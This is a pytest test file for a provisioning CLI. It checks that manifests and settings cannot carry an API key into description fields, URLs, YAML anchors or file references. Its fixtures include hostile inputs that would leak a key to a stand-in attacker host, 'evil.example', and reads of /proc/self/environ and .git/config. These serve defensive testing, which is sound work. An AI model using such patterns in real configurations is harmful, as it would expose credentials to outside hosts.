"""Manifests and settings that try to carry a credential to where it does not belong."""

from __future__ import annotations

from pathlib import Path

import pytest

from provisioner.cli.hosts import ALLOW_HOSTS
from tests.cli.command import Workspace
from tests.cli.listener import ENV, KEY, checked, listening, planned_at, pointed, secretive_in


@pytest.fixture
def secretive(tmp_path: Path) -> Workspace:
    return secretive_in(tmp_path / "secretive")


MENU = "services:\n  cut:\n    name: Cut\n    duration: 45 min\n"
NOWHERE_ELSE = "is allowed only in credentials and sensitive fields"
BOTH = '{email: "${env:SETSTER_EMAIL}", api_key: "${env:SETSTER_API_KEY}"}'
HELD = "SETSTER_API_KEY holds a credential of this tool"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (f"{MENU}    description: 'key ${{env:SETSTER_API_KEY}}'\n", NOWHERE_ELSE),
        (f'{MENU}    description: "\\x24{{env:SETSTER_API_KEY}}"\n', NOWHERE_ELSE),
        (f"{MENU}    description: ${{env:SETSTER_API_KEY|lower|slug}}\n", NOWHERE_ELSE),
        (f"{MENU}    description: ${{env:WEST_PASSWORD}}\n", NOWHERE_ELSE),
        (f"{MENU}    description: ${{var:${{env:SETSTER_API_KEY}}}}\n", "has no end"),
        (f"{MENU}    description: ${{file:${{env:SETSTER_API_KEY}}}}\n", "has no end"),
        (f"{MENU}    description: ${{file:env:SETSTER_API_KEY}}\n", "is no file of the workspace"),
        (f"{MENU}    description: ${{file:/proc/self/environ}}\n", "is outside the workspace"),
        (f"{MENU}    description: ${{file:environ}}\n", "is outside the workspace"),
        (f"{MENU}    description: ${{file:.git/config}}\n", "is a hidden file"),
        (f"{MENU}    description: ${{file:config.txt}}\n", "is a hidden file"),
        (f"{MENU}    password: ${{env:SETSTER_API_KEY}}\n", HELD),
        (f"{MENU}    password: x-${{env:SETSTER_API_KEY|upper}}\n", HELD),
        (f"{MENU}    <<: {{password: '${{env:SETSTER_API_KEY}}'}}\n", HELD),
        ("locations: {a: {name: A, website: 'https://evil.example/${env:SETSTER_API_KEY}'}}\n", NOWHERE_ELSE),
        ("accounts: {'${env:SETSTER_API_KEY}': {company_name: A}}\n", "a reference is not allowed in a key"),
        ("account: ${env:SETSTER_API_KEY}\n", NOWHERE_ELSE),
        ("removed: {location/a: {how: '${env:SETSTER_API_KEY}'}}\n", NOWHERE_ELSE),
        ("links: [{employees: '${env:SETSTER_API_KEY}', locations: all, services: all}]\n", NOWHERE_ELSE),
    ],
)
def test_a_manifest_cannot_have_a_credential(secretive: Workspace, text: str, reason: str) -> None:
    """At an endpoint that would get them: what is wrong is told before anybody is asked."""
    secretive.write("menu.yaml", text)
    secretive.write(".git/config", f"[http]\n\textraheader = AUTHORIZATION: basic {KEY}\n")
    (secretive.root / "environ").symlink_to("/proc/self/environ")
    (secretive.root / "config.txt").symlink_to(".git/config")
    with listening() as listener:
        ran = planned_at(secretive, listener, {ALLOW_HOSTS: listener.host})
        assert (ran.code, ran.out) == (1, "")
        assert ran.err.startswith("menu.yaml:")
        assert reason in ran.err
        assert listener.heard == b""


@pytest.mark.parametrize(
    ("before", "after", "reason"),
    [
        ("endpoint: ", "endpoint: https://evil.example/${env:SETSTER_API_KEY} # ", "references are not looked up here"),
        ("company_id: 2345", "company_id: ${env:SETSTER_API_KEY}", "references are not looked up here"),
        (
            "credentials: {",
            "defaults: {services: {description: '${env:SETSTER_API_KEY}'}}\ncredentials: {",
            NOWHERE_ELSE,
        ),
        ("credentials: {", "defaults: {services: {password: '${env:SETSTER_API_KEY}'}}\ncredentials: {", HELD),
        (
            'api_key: "${env:SETSTER_API_KEY}"}',
            'api_key: &key "${env:SETSTER_API_KEY}"}\ndefaults: {services: {description: *key}}',
            NOWHERE_ELSE,
        ),
        (
            f"credentials: {BOTH}",
            f"credentials: &both {BOTH}\ndefaults: {{services: {{<<: *both, description: x}}}}",
            NOWHERE_ELSE,
        ),
        (
            '"${env:SETSTER_API_KEY}"}',
            "'${file:/proc/self/environ}'}",
            "only the environment is asked for a credential",
        ),
    ],
)
def test_the_settings_give_no_credential_away(secretive: Workspace, before: str, after: str, reason: str) -> None:
    secretive.write("menu.yaml", MENU)
    with listening() as listener:
        pointed(secretive, f"{listener.url}/api/v2").edit("provisioner.yaml", before, after)
        ran = checked(secretive("plan", env=ENV | {ALLOW_HOSTS: listener.host}))
        assert (ran.code, ran.out) == (1, "")
        assert reason in ran.err
        assert listener.heard == b""


def test_a_credential_under_the_name_of_a_variable(secretive: Workspace) -> None:
    secretive.write("menu.yaml", MENU + "    description: ${var:KEY}\n")
    with listening() as listener:
        pointed(secretive, f"{listener.url}/api/v2")
        secretive.edit("provisioner.yaml", "${env:SETSTER_API_KEY}", "${env:PROVISIONER_VAR_KEY}")
        more = {ALLOW_HOSTS: listener.host, "PROVISIONER_VAR_KEY": KEY}
        ran = checked(secretive("plan", env=ENV | more))
        assert ran.code == 1
        assert "PROVISIONER_VAR_KEY holds a credential of this tool" in ran.err
        assert listener.heard == b""


def test_what_a_variable_brings_in_is_no_reference(secretive: Workspace) -> None:
    secretive.write("menu.yaml", MENU + "    description: ${var:A}${var:B}${file:note.txt}\n")
    secretive.write("note.txt", "${env:SETSTER_API_KEY}\n")
    secretive.write("data/vars.yaml", "B: ${env:SETSTER_API_KEY}\n")
    pointed(secretive, "sandbox")
    arguments = ["--var", "A=${env:SETSTER_API_KEY}", "--var-file", "data/vars.yaml"]
    checked(secretive("plan", *arguments, env=ENV))
    document = secretive.planned(*arguments, env=ENV)
    after = {each["name"]: each["after"] for each in document["changes"][0]["fields"]}
    assert after["description"] == "${env:SETSTER_API_KEY}" * 3
